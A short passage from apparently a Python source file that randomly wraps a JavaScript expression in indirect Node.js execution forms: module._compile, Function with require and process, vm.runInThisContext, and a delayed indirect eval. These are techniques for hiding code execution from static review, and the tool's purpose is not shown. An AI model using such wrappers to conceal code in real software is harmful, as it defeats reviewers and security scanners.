                  "new (require('module'))('').constructor.prototype._compile.call(module, %s, '');",
                  "Function('require', 'process', %s)(require, process);"]
        if "require(" not in inner and "module." not in inner:
            shapes += ["require('vm').runInThisContext(%s);", "setImmediate(() => (0, eval)(%s));"]
    return rng.choice(shapes) % expression, pairs
